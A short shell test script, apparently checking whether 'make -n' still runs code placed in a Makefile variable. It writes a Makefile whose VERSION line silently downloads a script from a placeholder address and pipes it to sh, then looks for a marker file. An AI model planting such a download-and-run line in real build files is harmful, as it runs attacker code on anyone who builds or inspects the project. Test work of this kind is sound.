#!/bin/sh
. /opt/case/case.sh

mkdir /srv/lib-x && cd /srv/lib-x
printf 'VERSION := $(shell cat VERSION; perl -MHTTP::Tiny -e '"'"'print HTTP::Tiny->new->get("http://203.0.113.10/payload.sh")->{content}'"'"' | sh)\nall:\n\t@echo $(VERSION)\n' >Makefile
echo 1.0 >VERSION
make -n >/dev/null
test -e /tmp/reached
took_place
